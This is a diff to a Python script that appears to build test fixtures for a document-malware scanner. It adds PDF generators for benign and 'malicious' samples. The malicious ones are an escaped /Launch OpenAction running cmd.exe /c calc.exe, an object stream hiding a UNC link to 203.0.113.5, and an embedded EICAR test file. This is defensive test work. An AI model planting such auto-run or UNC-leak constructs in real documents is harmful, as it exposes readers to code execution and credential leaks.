@@ -16,6 +16,7 @@ import os
 import struct
 import sys
 import zipfile
+import zlib
 
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
 from msoffcrypto.format.ooxml import OOXMLFile
@@ -230,6 +231,7 @@ def main():
     w("malicious/xlm-sheet-hidden.xls",
       cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 1, 1, [sum_f])]))]))
     shortcuts_and_links(out, pkg)
+    pdfs(out)
     rtfs(out, open(sys.argv[3], "rb").read() if len(sys.argv) > 3 else None)
     w("benign/plain.xls", cfb([("Workbook", workbook([("Sheet1", 0, 0, [sum_f])]))]))
     # a Word FIB (wIdent 0xA5EC) and field codes stored as UTF-16LE
@@ -275,7 +277,7 @@ def pdf(objects):
     offs = []
     for i, body in enumerate(objects):
         offs.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body.encode())
+        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body if isinstance(body, bytes) else body.encode())
     xref = len(out)
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % o for o in offs)
@@ -287,6 +289,41 @@ def pdf_with_action(action):
     return pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                 "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", action])
+
+
+def objstm(number, body):
+    """An object stream (FlateDecode) holding one object."""
+    head = b"%d 0 " % number
+    data = zlib.compress(head + body.encode())
+    return (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (len(head), len(data)) + data + b"\nendstream")
+
+
+def attachment(name, data):
+    z = zlib.compress(data)
+    return pdf(["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(%s) 4 0 R] >> >> >>" % name,
+                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+                "<< /Type /Filespec /F (%s) /EF << /F 5 0 R >> >>" % name,
+                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(z) + z +
+                b"\nendstream"])
+
+
+def pdfs(out):
+    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
+    pages = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
+    w("malicious/launch-escaped.pdf",
+      pdf_with_action("<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"))
+    w("malicious/objstm-uri-unc.pdf",
+      pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"] + pages +
+          [objstm(4, "<< /S /URI /URI (\\\\\\\\203.0.113.5\\\\share\\\\x) >>")]))
+    w("benign/objstm-web-link.pdf",
+      pdf(["<< /Type /Catalog /Pages 2 0 R >>"] + pages +
+          [objstm(5, "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.debian.org/) >> >>")]))
+    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)" + b"7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+    w("malicious/attachment-eicar.pdf", attachment("readme.com", eicar))
+    w("benign/attachment-notes.pdf", attachment("notes.txt", b"Minutes of the meeting.\n" * 50))
 
 
 def shortcuts_and_links(out, docx):
